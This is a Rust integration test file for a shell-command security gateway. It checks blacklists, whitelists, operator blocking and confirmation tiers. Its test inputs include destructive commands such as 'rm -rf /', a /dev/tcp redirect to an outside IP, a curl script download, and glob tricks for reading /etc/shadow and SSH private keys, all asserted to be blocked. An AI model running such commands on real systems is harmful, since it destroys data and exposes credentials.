//! Integration tests: validator pipeline ordering, escape asymmetry, confirmation tiers.

use secure_shell_gateway::config::GatewayConfig;
use secure_shell_gateway::policy::{Clearance, PipelineOutcome, PipelineReport};
use secure_shell_gateway::{Confirmation, Layer, RiskLevel, SecurityPipeline, Tier};

const CODE: &str = "integration-code";

fn pipeline() -> SecurityPipeline {
    let mut config = GatewayConfig::default();
    config.authorization.code = Some(CODE.into());
    SecurityPipeline::from_config(&config).expect("default rules compile")
}

fn blocked_layer(report: &PipelineReport) -> Option<Layer> {
    report.blocking_verdict().map(|v| v.layer)
}

#[test]
fn blacklisted_commands_blocked_at_every_tier_with_or_without_code() {
    let p = pipeline();
    for command in ["rm -rf /", "rm  -rf   /", "mkfs.ext4 /dev/sda1", "shutdown -h now"] {
        for tier in [Tier::Basic, Tier::Standard, Tier::High, Tier::Maximum] {
            for code in [None, Some(CODE), Some("wrong")] {
                let report = p.evaluate(command, tier, code, true);
                assert_eq!(blocked_layer(&report), Some(Layer::Blacklist), "{command} at {tier}");
            }
        }
    }
}

#[test]
fn unlisted_command_blocked_by_whitelist_at_standard() {
    let report = pipeline().evaluate("nmap -sS 10.0.0.0/24", Tier::Standard, None, false);
    assert_eq!(blocked_layer(&report), Some(Layer::Whitelist));
}

#[test]
fn pipe_depth_is_checked_before_segments() {
    let report = pipeline().evaluate(
        "ps aux | grep a | grep b | grep c | grep d | grep e",
        Tier::Standard,
        None,
        false,
    );
    let verdict = report.blocking_verdict().expect("blocked");
    assert!(verdict.reason.contains("depth"), "{}", verdict.reason);
    assert!(!verdict.overridable);
}

#[test]
fn read_pipe_chain_is_allowed() {
    let report = pipeline().evaluate("ps aux | grep nginx", Tier::Standard, None, false);
    assert!(report.is_allowed(), "{report:?}");
    assert_eq!(report.risk, RiskLevel::Read);
    assert_eq!(report.confirmation, Confirmation::None);
}

#[test]
fn listing_tmp_is_read_without_confirmation() {
    let report = pipeline().evaluate("ls -la /tmp", Tier::Standard, None, false);
    assert_eq!(
        report.outcome,
        PipelineOutcome::Allowed {
            clearance: Clearance::Validated
        }
    );
    assert_eq!(report.risk, RiskLevel::Read);
}

#[test]
fn service_restart_requires_confirmation() {
    let report = pipeline().evaluate("systemctl restart nginx", Tier::Standard, None, false);
    match &report.outcome {
        PipelineOutcome::ConfirmationRequired { required, prompt } => {
            assert_eq!(*required, Confirmation::Single);
            assert!(prompt.contains("requireAdmin"));
        }
        other => panic!("expected confirmation, got {other:?}"),
    }
    assert_eq!(report.risk, RiskLevel::Write);

    let report = pipeline().evaluate("systemctl restart nginx", Tier::Standard, Some(CODE), false);
    assert!(report.is_allowed());
}

#[test]
fn unknown_command_with_code_passes_only_if_ast_passes() {
    let p = pipeline();
    let report = p.evaluate("nmap -sS localhost", Tier::Standard, Some(CODE), false);
    assert_eq!(
        report.outcome,
        PipelineOutcome::Allowed {
            clearance: Clearance::Escaped
        }
    );

    let report = p.evaluate("nmap localhost -oN /dev/tcp/1.2.3.4/80", Tier::Standard, Some(CODE), false);
    assert_eq!(blocked_layer(&report), Some(Layer::Ast));

    let report = p.evaluate("nmap -sS localhost", Tier::Standard, Some("nope"), false);
    let verdict = report.blocking_verdict().expect("blocked");
    assert_eq!(verdict.layer, Layer::Authorization);
    assert!(verdict.reason.contains("code mismatch"));
}

#[test]
fn special_operators_are_never_forgiven() {
    let p = pipeline();
    for command in ["ls; id", "ls && id", "ls || id", "sleep 1 &", "echo $(id)", "echo `id`"] {
        let report = p.evaluate(command, Tier::Standard, Some(CODE), true);
        assert_eq!(blocked_layer(&report), Some(Layer::SpecialOperators), "{command}");
    }
}

#[test]
fn maximum_tier_escalates_write_to_double() {
    let p = pipeline();
    let report = p.evaluate("systemctl restart nginx", Tier::Maximum, Some(CODE), false);
    assert!(matches!(
        report.outcome,
        PipelineOutcome::ConfirmationRequired {
            required: Confirmation::Double,
            ..
        }
    ));
    let report = p.evaluate("systemctl restart nginx", Tier::Maximum, Some(CODE), true);
    assert!(report.is_allowed());
}

#[test]
fn special_operators_are_rejected_at_basic_tier() {
    let p = pipeline();
    for command in ["ls /tmp; curl http://x/i.sh -o /tmp/i.sh", "echo $(cat /etc/shadow)"] {
        let report = p.evaluate(command, Tier::Basic, None, false);
        assert_eq!(blocked_layer(&report), Some(Layer::SpecialOperators), "{command}");
    }
    assert!(p.evaluate("uptime", Tier::Basic, None, false).is_allowed());
}

#[test]
fn shell_expansion_cannot_reach_credential_files() {
    let p = pipeline();
    for command in [
        "cat /etc/shad*",
        "cat /etc/sh?dow",
        "cat /etc/[s]hadow",
        "cat $HOME/.ssh/id_rsa",
    ] {
        let report = p.evaluate(command, Tier::Standard, Some(CODE), true);
        let verdict = report.blocking_verdict().expect("blocked");
        assert!(!verdict.overridable, "{command}");
        assert_eq!(verdict.rule.as_deref(), Some("paths.no_expansion"), "{command}");
    }
}

#[test]
fn code_does_not_escape_denied_paths_for_unlisted_commands() {
    let p = pipeline();
    for command in ["nmap -iL /root/.ssh/id_rsa", "nmap localhost > /etc/passwd"] {
        let report = p.evaluate(command, Tier::Standard, Some(CODE), true);
        assert!(!report.is_allowed(), "{command}");
        assert!(report.blocking_verdict().is_some_and(|v| !v.overridable), "{command}");
        assert!(report.verdicts.iter().all(|v| v.layer != Layer::Authorization), "{command}");
    }
}
